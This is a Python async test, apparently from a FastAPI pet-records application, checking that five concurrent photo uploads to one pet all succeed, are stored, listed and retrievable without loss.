# --------------------------------------------------------------------------- concurrency


async def test_concurrent_uploads_to_one_pet_lose_no_photo(
    app: FastAPI, client: httpx.AsyncClient, staff: Account, pet: dict[str, Any], media: Path
) -> None:
    pictures = [picture(fmt) for fmt in ("JPEG", "PNG", "WEBP", "JPEG", "PNG")]
    responses = await asyncio.gather(
        *(upload(client, pet["id"], data, staff.auth) for data in pictures)
    )
    assert [r.status_code for r in responses] == [201] * 5, [r.text for r in responses]
    urls = {r.json()["image"]["url"] for r in responses}
    assert len(urls) == 5
    listed = await photos(client, pet["id"])
    assert len(listed) == 5
    assert set(listed) == urls
    assert len(await image_rows(app, pet["id"])) == 5
    for url in urls:
        assert (await client.get(url)).status_code == 200
